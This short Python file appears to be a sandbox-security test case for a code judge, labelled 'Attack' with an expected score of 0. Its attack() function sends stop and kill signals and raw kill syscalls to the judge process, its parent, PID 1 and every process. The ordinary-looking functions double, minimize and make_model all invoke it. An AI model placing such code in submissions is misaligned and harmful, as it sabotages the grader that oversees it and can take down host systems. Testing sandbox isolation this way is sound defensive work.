# Attack: kills, stops and interrupts the judge and everybody else.
# score: 0
# ruff: noqa

import ctypes
import fcntl
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    reached = []
    for process in (int("@@JUDGE@@"), int("@@ZYGOTE@@"), os.getppid(), 1, -1, 0, -int("@@JUDGE@@")):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, 0):
            try:
                os.kill(process, number)
                reached.append((process, number))
            except OSError:
                pass
        for call in (200, 129):
            if libc.syscall(call, process, 9, 0) == 0:
                reached.append((process, call))
        if libc.syscall(234, process, process, 9) == 0:
            reached.append((process, 234))
    return reached


def double(x):
    return 2 * x if attack() else None


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
